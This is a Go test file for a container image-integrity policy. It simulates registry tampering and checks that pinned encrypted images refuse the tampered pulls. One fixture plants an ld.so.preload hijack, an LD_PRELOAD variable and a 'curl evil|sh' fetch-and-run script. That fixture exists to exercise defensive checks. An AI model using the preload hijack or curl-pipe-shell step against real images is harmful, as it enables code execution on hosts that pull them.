package imagepolicy_test

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log"
	"log/slog"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/static"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/coffer-dev/coffer/agent/client"
	"github.com/coffer-dev/coffer/agent/evidence"
	"github.com/coffer-dev/coffer/imagecrypt"
	"github.com/coffer-dev/coffer/imagepolicy"
	"github.com/coffer-dev/coffer/kbs/adminclient"
	"github.com/coffer-dev/coffer/kbs/kbstest"
	"github.com/coffer-dev/coffer/keywrap/aa"
	"github.com/coffer-dev/coffer/pull"
	"github.com/coffer-dev/coffer/resource"
	"github.com/coffer-dev/coffer/spec"
	"github.com/coffer-dev/coffer/transport"
)

func tarLayer(t testing.TB, files map[string]string) v1.Layer {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for name, body := range files {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(body)), Typeflag: tar.TypeReg})
		io.WriteString(tw, body)
	}
	tw.Close()
	return static.NewLayer(b.Bytes(), types.OCIUncompressedLayer)
}

// plainImage is a two-layer image: a plain base layer and an app layer.
func plainImage(t testing.TB, app string) v1.Image {
	t.Helper()
	img := mutate.ConfigMediaType(mutate.MediaType(empty.Image, types.OCIManifestSchema1), types.OCIConfigJSON)
	img, err := mutate.AppendLayers(img,
		tarLayer(t, map[string]string{"etc/os-release": "ID=base\n"}),
		tarLayer(t, map[string]string{"app/run": app}))
	if err != nil {
		t.Fatal(err)
	}
	cf, _ := img.ConfigFile()
	cf = cf.DeepCopy()
	cf.Config.Entrypoint = []string{"/app/run"}
	img, err = mutate.ConfigFile(img, cf)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// world is an owner's setup: a registry, a broker, and images encrypted
// (top layer under a broker key) and pushed to it.
type world struct {
	reg   string // host:port
	b     *kbstest.Broker
	admin *adminclient.Client
}

func newWorld(t *testing.T) *world {
	t.Helper()
	srv := httptest.NewServer(registry.New(registry.Logger(log.New(io.Discard, "", 0)), registry.WithReferrersSupport(true)))
	t.Cleanup(srv.Close)
	b := kbstest.New(t)
	b.AllowAll(t)
	b.AffirmSample(t)
	admin, err := adminclient.New(b.URL, b.AdminKey)
	if err != nil {
		t.Fatal(err)
	}
	return &world{reg: strings.TrimPrefix(srv.URL, "http://"), b: b, admin: admin}
}

// encrypt writes img encrypted (top layer, broker key keyID) to repo:tag,
// pinned when pin is set, and returns the reference.
func (w *world) encrypt(t *testing.T, img v1.Image, repoTag, keyID string, pin bool) transport.Reference {
	t.Helper()
	ctx := context.Background()
	kek, kid, err := w.admin.RegisterKEK(ctx, keyID, false)
	if err != nil {
		t.Fatal(err)
	}
	wr, err := aa.NewWrapper(kek, kid)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	src := mustParse(t, "oci:"+filepath.Join(dir, "src")+":v1")
	if err := transport.Write(ctx, src, transport.Artifact{Image: img}); err != nil {
		t.Fatal(err)
	}
	dst := mustParse(t, "docker://"+w.reg+"/"+repoTag)
	tr := imagecrypt.EncryptFor(wr)
	if pin {
		if tr, err = imagepolicy.PinOnWrite(tr, w.admin, "default", dst, nil); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := imagecrypt.Copy(ctx, src, dst, tr, nil, imagecrypt.WithLayers(-1)); err != nil {
		t.Fatal(err)
	}
	return dst
}

func mustParse(t testing.TB, s string) transport.Reference {
	t.Helper()
	r, err := transport.Parse(s)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// pullAs is the trusted side: attest (sample TEE), fetch keys and pins
// from the broker, pull into a fresh directory. It returns the error and
// what the directory holds afterwards.
func (w *world) pullAs(t *testing.T, ref transport.Reference, copts ...imagepolicy.Option) (error, []string, *bytes.Buffer) {
	t.Helper()
	c, err := client.New(w.b.URL, client.WithAttester(evidence.Sample{}))
	if err != nil {
		t.Fatal(err)
	}
	var logs bytes.Buffer
	all := append([]imagepolicy.Option{imagepolicy.WithPins(Fetcher(c)), imagepolicy.WithLogger(slog.New(slog.NewTextHandler(&logs, nil)))}, copts...)
	chk, err := imagepolicy.New(all...)
	if err != nil {
		t.Fatal(err)
	}
	parent := t.TempDir()
	err = pull.Pull(context.Background(), ref, filepath.Join(parent, "rootfs"),
		pull.WithKeys(aa.NewUnwrapper(c.KeyResolver())), pull.WithVerify(chk.Verify))
	ents, _ := os.ReadDir(parent)
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return err, names, &logs
}

// Fetcher adapts the RCAR client to imagepolicy.ResourceFetcher.
func Fetcher(c *client.Client) imagepolicy.ResourceFetcher {
	return func(ctx context.Context, p resource.Path) ([]byte, error) {
		return c.GetResource(ctx, p.Repo, p.Type, p.Tag)
	}
}

// rawTaggable pushes manifest bytes as they are.
type rawTaggable struct {
	raw []byte
	mt  types.MediaType
}

func (r rawTaggable) RawManifest() ([]byte, error)        { return r.raw, nil }
func (r rawTaggable) MediaType() (types.MediaType, error) { return r.mt, nil }

// signedMention: a refusal names the digest served, and a swapped-in
// image that carries its own valid signature is refused for its name.
func signedMention(attack string, _, evil v1.Hash) []string {
	if strings.Contains(attack, "swapped") {
		return []string{evil.String(), "signed identity", "does not match"}
	}
	return []string{evil.String(), "no signature found"}
}

// attack tampers with the image at tag and returns the digest now served.
type attack struct {
	name   string
	tamper func(t *testing.T) v1.Hash
}

// attacks are the issue's: what a registry (not trusted) can do to an
// image it serves. other is another image of the owner's, under another
// name; the swap copies its signatures along, as anyone can.
func attacks(good v1.Image, tag name.Reference, other transport.Reference) []attack {
	return []attack{
		{"append plaintext ld.so.preload layer and change entrypoint/env", func(t *testing.T) v1.Hash {
			evil, err := mutate.AppendLayers(good, tarLayer(t, map[string]string{
				"etc/ld.so.preload": "/lib/evil.so\n", "lib/evil.so": "\x7fELF evil", "evil.sh": "#!/bin/sh\ncurl evil|sh\n"}))
			if err != nil {
				t.Fatal(err)
			}
			cf, _ := evil.ConfigFile()
			cf = cf.DeepCopy()
			cf.Config.Entrypoint = []string{"/evil.sh"}
			cf.Config.Env = append(cf.Config.Env, "LD_PRELOAD=/lib/evil.so")
			evil, _ = mutate.ConfigFile(evil, cf)
			return push(t, tag, evil)
		}},
		{"whole image replaced by a plaintext image", func(t *testing.T) v1.Hash {
			return push(t, tag, plainImage(t, "#!/bin/sh\necho evil\n"))
		}},
		{"layers reordered", func(t *testing.T) v1.Hash {
			m, _ := good.Manifest()
			m = m.DeepCopy()
			m.Layers[0], m.Layers[1] = m.Layers[1], m.Layers[0]
			raw, _ := json.Marshal(m)
			return putRaw(t, tag, raw, m.MediaType)
		}},
		{"config only changed", func(t *testing.T) v1.Hash {
			cf, _ := good.ConfigFile()
			cf = cf.DeepCopy()
			cf.Config.Env = []string{"LD_PRELOAD=/app/run"}
			evil, _ := mutate.ConfigFile(good, cf)
			return push(t, tag, evil)
		}},
		{"manifest swapped to another image of the owner's", func(t *testing.T) v1.Hash {
			on, _ := transport.DockerName(other)
			oimg, err := remote.Image(on)
			if err != nil {
				t.Fatal(err)
			}
			raw, _ := oimg.RawManifest()
			mt, _ := oimg.MediaType()
			d := putRaw(t, tag, raw, mt)
			// Signatures are public: copy the other image's along.
			if sig, err := remote.Image(on.Context().Tag(imagepolicy.SignatureTag(d))); err == nil {
				push(t, tag.Context().Tag(imagepolicy.SignatureTag(d)), sig)
			}
			return d
		}},
	}
}

// runAttacks performs every attack on the image at ref and expects each
// pull refused with want, naming the digest served, with nothing left
// behind; then the untampered image must pull without a warning.
func runAttacks(t *testing.T, w *world, ref, other transport.Reference, want error, mention func(attack string, good, evil v1.Hash) []string, copts ...imagepolicy.Option) {
	tag, _ := transport.DockerName(ref)
	good, err := remote.Image(tag)
	if err != nil {
		t.Fatal(err)
	}
	goodDigest, _ := good.Digest()
	goodRaw := mustRaw(t, good)
	for _, a := range attacks(good, tag, other) {
		t.Run(a.name, func(t *testing.T) {
			evil := a.tamper(t)
			defer putRaw(t, tag, goodRaw, types.OCIManifestSchema1)
			err, left, _ := w.pullAs(t, ref, copts...)
			if !errors.Is(err, want) {
				t.Fatalf("pull of the tampered image: err = %v, want %v", err, want)
			}
			for _, s := range mention(a.name, goodDigest, evil) {
				if !strings.Contains(err.Error(), s) {
					t.Errorf("error %q does not name %q", err, s)
				}
			}
			if len(left) != 0 {
				t.Errorf("a refused pull left %v behind, want nothing", left)
			}
		})
	}
	err, left, logs := w.pullAs(t, ref, copts...)
	if err != nil {
		t.Fatalf("pull of the untampered image: %v", err)
	}
	if len(left) != 2 || logs.Len() != 0 {
		t.Errorf("untampered pull left %v, logged %q; want rootfs and its config, no warning", left, logs)
	}
}

func TestPinnedImageRefusesTampering(t *testing.T) {
	w := newWorld(t)
	ref := w.encrypt(t, plainImage(t, "#!/bin/sh\necho good\n"), "app:enc", "default/image_key/app", true)
	other := w.encrypt(t, plainImage(t, "#!/bin/sh\necho other\n"), "other:enc", "default/image_key/other", true)
	runAttacks(t, w, ref, other, spec.ErrIntegrity, func(_ string, good, evil v1.Hash) []string {
		return []string{good.String(), evil.String(), "changed since it was pinned"}
	})
}

func push(t *testing.T, tag name.Reference, img v1.Image) v1.Hash {
	t.Helper()
	if err := remote.Write(tag, img); err != nil {
		t.Fatal(err)
	}
	d, _ := img.Digest()
	return d
}

func putRaw(t *testing.T, tag name.Reference, raw []byte, mt types.MediaType) v1.Hash {
	t.Helper()
	if err := remote.Put(tag, rawTaggable{raw, mt}); err != nil {
		t.Fatal(err)
	}
	h, _, _ := v1.SHA256(bytes.NewReader(raw))
	return h
}

func mustRaw(t *testing.T, img v1.Image) []byte {
	t.Helper()
	raw, err := img.RawManifest()
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// Without a pin, a pull warns once that nothing vouches for the image and
// the plaintext replacement goes through; --require-signature refuses it.
func TestUnpinnedWarnsOrRefuses(t *testing.T) {
	w := newWorld(t)
	ref := w.encrypt(t, plainImage(t, "good"), "app:enc", "default/image_key/app", false)
	tag, _ := transport.DockerName(ref)
	push(t, tag, plainImage(t, "evil"))
	err, _, logs := w.pullAs(t, ref)
	if err != nil {
		t.Fatalf("unpinned pull: %v", err)
	}
	if n := strings.Count(logs.String(), "integrity is not verified"); n != 1 {
		t.Errorf("warned %d times, want once: %q", n, logs)
	}
	err, left, _ := w.pullAs(t, ref, imagepolicy.WithRequireSignature(true))
	if !errors.Is(err, spec.ErrPolicyDenied) || !strings.Contains(err.Error(), "--pin") || len(left) != 0 {
		t.Errorf("require-signature pull: err = %v, left %v; want ErrPolicyDenied saying how to fix it, nothing left", err, left)
	}
}

// IMAGE@sha256:… is checked against the manifest read, for every transport.
func TestDigestReferenceVerified(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	dir := t.TempDir()
	img := plainImage(t, "good")
	d, _ := img.Digest()
	lay := filepath.Join(dir, "lay")
	if err := transport.Write(ctx, mustParse(t, "oci:"+lay+":v1"), transport.Artifact{Image: img}); err != nil {
		t.Fatal(err)
	}
	chk, _ := imagepolicy.New(imagepolicy.WithRequireSignature(true))
	byDigest := mustParse(t, "oci:"+lay+"@"+d.String())
	if _, err := chk.Check(ctx, byDigest, v1.Platform{OS: "linux", Architecture: "amd64"}); err != nil {
		t.Fatalf("untampered oci digest reference: %v", err)
	}
	// The layout's manifest blob is rewritten behind index.json's back.
	m, _ := img.Manifest()
	m = m.DeepCopy()
	m.Annotations = map[string]string{"evil": "1"}
	raw, _ := json.Marshal(m)
	if err := os.WriteFile(filepath.Join(lay, "blobs", "sha256", d.Hex), raw, 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := chk.Check(ctx, byDigest, v1.Platform{OS: "linux", Architecture: "amd64"})
	if !errors.Is(err, spec.ErrIntegrity) || !strings.Contains(err.Error(), d.String()) {
		t.Errorf("tampered oci manifest under a digest reference: err = %v, want ErrIntegrity naming %s", err, d)
	}
	if _, err := chk.Check(ctx, mustParse(t, "oci:"+lay+":v1"), v1.Platform{}); !errors.Is(err, spec.ErrPolicyDenied) {
		t.Errorf("tag reference with nothing vouching under require: err = %v, want ErrPolicyDenied", err)
	}
}

// A local layout's config rewritten behind its manifest's back (layouts
// are not hashed on read) is refused before it is used.
func TestLayoutConfigTamperRefused(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	lay := filepath.Join(t.TempDir(), "lay")
	img := plainImage(t, "good")
	ref := mustParse(t, "oci:"+lay+":v1")
	if err := transport.Write(ctx, ref, transport.Artifact{Image: img}); err != nil {
		t.Fatal(err)
	}
	chk, _ := imagepolicy.New(imagepolicy.WithLogger(slog.New(slog.DiscardHandler)))
	if _, err := chk.Check(ctx, ref, v1.Platform{}); err != nil {
		t.Fatalf("untampered: %v", err)
	}
	cfgName, _ := img.ConfigName()
	cf, _ := img.ConfigFile()
	cf = cf.DeepCopy()
	cf.Config.Entrypoint = []string{"/evil"}
	raw, _ := json.Marshal(cf)
	if err := os.WriteFile(filepath.Join(lay, "blobs", "sha256", cfgName.Hex), raw, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := chk.Check(ctx, ref, v1.Platform{}); !errors.Is(err, spec.ErrIntegrity) || !strings.Contains(err.Error(), "config") {
		t.Errorf("tampered config: err = %v, want ErrIntegrity about the config", err)
	}
}
